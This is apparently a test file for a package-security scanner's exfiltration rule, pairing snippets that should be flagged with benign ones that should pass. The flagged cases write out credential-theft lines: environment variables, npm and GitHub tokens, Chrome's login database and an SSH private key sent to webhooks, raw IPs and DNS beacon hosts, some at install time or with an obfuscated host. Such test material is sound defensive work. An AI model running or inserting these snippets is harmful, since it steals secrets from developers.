import { ruleTable } from "../helpers.js";

ruleTable("exfiltration", {
  fail: [
    {
      name: "env to a webhook over https",
      code: "const https = require('https'); const req = https.request({ hostname: 'webhook.site', path: '/abc', method: 'POST' }); req.end(JSON.stringify(process.env));",
      atLeast: "critical",
    },
    {
      name: "dependency-confusion DNS probe",
      code: "const dns = require('dns'); const os = require('os'); dns.lookup(os.hostname() + '.' + os.userInfo().username + '.x.oast.fun', () => {});",
      atLeast: "critical",
    },
    {
      name: "npm token to a raw IP with fetch",
      code: "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); fetch('http://45.9.12.7/c', { method: 'POST', body: t });",
      atLeast: "critical",
    },
    { name: "GITHUB_TOKEN posted at install", code: "const axios = require('axios'); axios.post('https://collector.example/x', { t: process.env.GITHUB_TOKEN });", installTime: true, atLeast: "critical" },
    { name: "a webhook host spelled backwards", code: "const h = 'etis.koohbew'.split('').reverse().join(''); require('https').request({ hostname: h, method: 'POST' }).end(JSON.stringify(process.env));", atLeast: "critical" },
    { name: "discord webhook alone", code: "const HOOK = 'https://discord.com/api/webhooks/123/abc';", atLeast: "medium" },
    { name: "nslookup of a name built from host facts", code: "const { exec } = require('child_process'); const os = require('os'); exec('nslookup ' + Buffer.from(os.hostname() + os.userInfo().username).toString('hex') + '.x.oastify.com');", atLeast: "critical" },
    { name: "whole env packed into a payload at require time", code: "import axios from 'axios'; axios.post('https://stats.example.net/c', { h: 1, e: process.env });", atLeast: "critical" },
    { name: "host facts asked of the shell (whoami, hostname, public IP)", code: "const { execSync } = require('child_process'); const axios = require('axios'); const r = { u: execSync('whoami'), h: execSync('hostname'), ip: execSync('curl ifconfig.me') }; axios.post('https://collect.invalid/l', r);", atLeast: "high" },
    { name: "hostname alone spelled into a DNS query at install time", code: "const os = require('os'); const dns = require('dns'); dns.lookup(`${os.hostname()}.beacon.invalid`, () => {});", installTime: true, atLeast: "critical" },
    { name: "os.hostname passed to a helper, sent over DNS", code: "const dns = require('dns'); const os = require('os'); const d = { h: tryGet(os.hostname), d: tryGet(os.homedir) }; dns.resolve(Buffer.from(JSON.stringify(d)).toString('hex') + '.x.invalid', 'A', () => {});", atLeast: "critical" },
    { name: "the env aliased, then posted", code: "const https = require('https'); var data = process.env || {}; const req = https.request({ host: 'collector.invalid', method: 'POST' }); req.write(JSON.stringify(data)); req.end();", atLeast: "critical" },
    { name: "browser password store next to a network call, at run time", code: "const p = require('path').join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'); fetch('https://x.invalid/u', { method: 'POST', body: require('fs').readFileSync(p) });", atLeast: "critical" },
    { name: "FTP upload to a raw IP at install time", installTime: true, code: "const Ftp = require('ftp'); const c = new Ftp(); c.connect({ host: '203.0.113.25', user: 'u', password: 'p' }); c.put('dump.zip', '/dump.zip', () => {});", atLeast: "critical" },
    { name: "a shell script sending an SSH key with curl", shellScript: true, code: "a=$(cat $HOME/.ssh/id_rsa) && curl -X POST -d \"k=$a\" https://collector.invalid/k\n", atLeast: "high" },
  ],
  pass: [
    { name: "HTTP client reading a proxy variable", code: "const https = require('https'); const proxy = process.env.HTTPS_PROXY; https.get(url, cb);" },
    { name: "telemetry opt-out check", code: "if (!process.env.DO_NOT_TRACK) fetch('https://telemetry.example.com/v1', { method: 'POST', body: JSON.stringify({ version }) });" },
    { name: "hostname for a local server", code: "const os = require('os'); server.listen(3000, () => console.log(os.hostname()));" },
    { name: "private IP in a dev server", code: "const url = 'http://192.168.1.10:8080/';" },
    { name: "env handed to a child process next to an HTTP client", code: "const https = require('https'); const cp = require('child_process'); cp.spawn('node', ['s.js'], { env: process.env }); https.get(url, cb);" },
    { name: "ping of a fixed host", code: "const { exec } = require('child_process'); exec('ping -c 1 example.com'); fetch(u);" },
    { name: "installer reading the home folder and platform before a download", code: "const os = require('os'); const dir = os.homedir() + '/.cache/tool-' + os.platform(); fetch(downloadUrl).then(save);", installTime: true },
    { name: "dns lookup of localhost with env enumerated for config", code: "const dns = require('dns'); const keys = Object.keys(process.env); dns.promises.lookup('localhost');" },
    { name: "a minified bundle's local function named ws", code: "function ws(x){return x} const k = Object.keys(process.env); ws('byobRequest');" },
    { name: "a public-IP helper (no identity sent)", code: "const https = require('https'); https.get('https://api.ipify.org?format=json', (r) => r.pipe(process.stdout));" },
    { name: "hostname in a log line next to an HTTP client", code: "const os = require('os'); log.info('started on ' + os.hostname()); fetch(apiUrl);" },
    { name: "a minified bundle reusing the name of an env alias as a parameter", code: "var e = process.env; function f(e) { return JSON.stringify(e); } fetch(u, { method: 'POST', body: f(payload) });" },
  ],
});
